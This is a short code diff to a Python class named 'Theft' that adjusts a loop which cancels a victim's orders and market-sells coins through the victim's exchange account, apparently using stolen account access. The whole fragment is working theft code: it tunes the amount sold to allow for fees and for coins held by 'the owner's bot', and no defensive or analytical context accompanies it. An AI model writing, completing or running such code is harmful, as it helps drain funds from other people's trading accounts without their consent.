@@ -222,9 +222,9 @@ class Theft:
             if bought is None:
                 break
             rounds += 1
-            # A little less than was filled: the fee was taken from the coin.
-            coins = (bought["filled"] or 0) * 0.998
-            # The owner's bot goes on placing orders, which hold coins.
+            # Less than was filled: the fee was taken from the coin, and the owner's bot goes on
+            # placing orders, which hold some.
+            coins = (bought["filled"] or 0) * 0.94
             await self._cancel_all(self._victim, deep)
             if coins and not await self._order(self._victim, deep, "market", "sell", coins):
                 break
